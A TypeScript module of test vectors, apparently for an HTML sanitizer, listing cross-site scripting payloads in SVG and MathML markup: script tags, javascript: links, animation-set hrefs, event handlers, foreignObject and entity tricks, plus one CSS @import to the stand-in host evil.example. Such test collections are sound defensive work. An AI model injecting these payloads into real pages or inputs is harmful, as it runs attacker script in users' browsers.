import type { Vectors } from "./vectors.ts";

/** Elements of the SVG and MathML namespaces. */
export const svgAndMath: Vectors = {
  "a script in a drawing": "<svg><script>RUN</script></svg>",
  "a script in a drawing, its text in entities": "<svg><script>&#116;op.pwned(ID)</script></svg>",
  "a script in a drawing, its text in CDATA": "<svg><script><![CDATA[RUN]]></script></svg>",
  "a script in a drawing from data": "<svg><script href='data:text/javascript,RUN'></script></svg>",
  "a script in a drawing from data, the old way": "<svg><script xlink:href='data:text/javascript,RUN' /></svg>",
  "a script in a drawing that closes itself": "<svg><script href='data:,RUN' /><p>x</svg>",
  "a link in a drawing": "<svg><a href=javascript:RUN><text y=20>x</text></a></svg>",
  "a link in a drawing, the old way": "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
  "a link that an animation makes":
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg><svg onload=RUN></svg>",
  "a link that a set makes":
    "<svg><a><set attributeName=href to=javascript:RUN /><text y=20>x</text></a></svg><svg><animate onbegin=RUN attributeName=x dur=1s /></svg>",
  "an animation that begins": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
  "a set that begins": "<svg><set onbegin=RUN attributename=x to=1></svg>",
  "a motion that begins": "<svg><animateTransform onbegin=RUN attributeName=transform dur=1s></svg>",
  "a picture in a drawing that fails": "<svg><image href=x onerror=RUN></image></svg>",
  "a drawing in a drawing that loads": "<svg><svg onload=RUN></svg></svg>",
  "a group in a drawing that is focused": "<svg><g tabindex=0 autofocus onfocus=RUN><text y=9>x</text></g></svg>",
  "HTML in a drawing": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
  "a frame in a drawing": "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
  "HTML in a drawing's description": "<svg><desc><img src=x onerror=RUN></desc></svg>",
  "HTML in a drawing's title": "<svg><title><img src=x onerror=RUN></title></svg>",
  "a style in a drawing": "<svg><style>@import '//evil.example/ID';</style></svg>",
  "a shape that is pressed": "<svg><rect width=9 height=9 onclick=RUN onpointerdown=RUN /></svg>",
  "a drawing with entities of its own":
    "<!DOCTYPE x [<!ENTITY y 'javascript:RUN'>]><svg><a href='&y;'><text y=9>x</text></a><g onload=RUN /><image href=x onerror=RUN /></svg>",
  "a discarded element": "<svg><discard onbegin=RUN /><animate onbegin=RUN attributeName=x dur=1s /></svg>",
  "a script beside a formula": "<math><script>RUN</script></math><math><mtext><script>RUN</script></mtext></math>",
  "a link in a formula": "<math><mtext><a href=javascript:RUN>x</a></mtext></math>",
  "a formula that is a link":
    "<math href=javascript:RUN><mtext>x</mtext></math><math><mi><img src=x onerror=RUN></mi></math>",
  "a formula that is pressed":
    "<math><maction actiontype=toggle onclick=RUN><mtext onmouseover=RUN>x</mtext></maction></math>",
  "HTML in a formula's annotation":
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
  "HTML in a formula's text": "<math><mtext><img src=x onerror=RUN></mtext></math>",
};
